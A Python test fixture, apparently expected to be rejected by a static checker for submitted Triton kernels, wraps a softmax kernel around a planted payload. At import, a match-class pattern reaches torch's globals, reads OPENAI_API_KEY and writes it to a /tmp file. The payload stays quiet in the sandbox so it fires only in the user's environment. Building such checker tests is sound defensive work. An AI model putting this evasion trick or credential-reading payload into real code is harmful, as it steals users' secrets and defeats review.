# expect: REJECTED static
"""Planted escape: a class pattern's keyword names an attribute, dunders included, and the
parser keeps it as a plain string (MatchClass.kwd_attrs), not as an attribute node.

`case object(__globals__=g)` on a torch function binds g to torch's module globals: os and
the builtins are one subscript away, on a GPU as well as under the interpreter. The payload
waits for a key in the environment, so it stays quiet in the sandbox and runs where the
judged file is loaded with the user's environment (verify, use_kernels).
"""

import torch
import triton
import triton.language as tl

KERNEL_TYPE = "softmax"


@triton.jit
def _softmax_kernel(X, Y, stride_x, stride_y, n_cols, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(X + row * stride_x + cols, mask=mask, other=-float("inf")).to(tl.float32)
    m = tl.max(x, axis=0)
    e = tl.exp(x - m)
    y = e / tl.sum(e, axis=0)
    tl.store(Y + row * stride_y + cols, y.to(Y.dtype.element_ty), mask=mask)


def _payload() -> None:
    match torch.is_tensor:
        case object(__globals__=g):
            key = g["os"].getenv("OPENAI_API_KEY")
            if key:
                with g["__builtins__"]["open"]("/tmp/autokernel-fault-leak.txt", "w") as f:
                    f.write(key[::-1])


_payload()


def kernel_fn(x: torch.Tensor) -> torch.Tensor:
    n_cols = x.shape[-1]
    x2 = x.reshape(-1, n_cols)
    y = torch.empty(x2.shape, dtype=x.dtype, device=x.device)
    _softmax_kernel[(x2.shape[0],)](
        x2, y, x2.stride(0), y.stride(0), n_cols, BLOCK=triton.next_power_of_2(n_cols)
    )
    return y.view(x.shape)
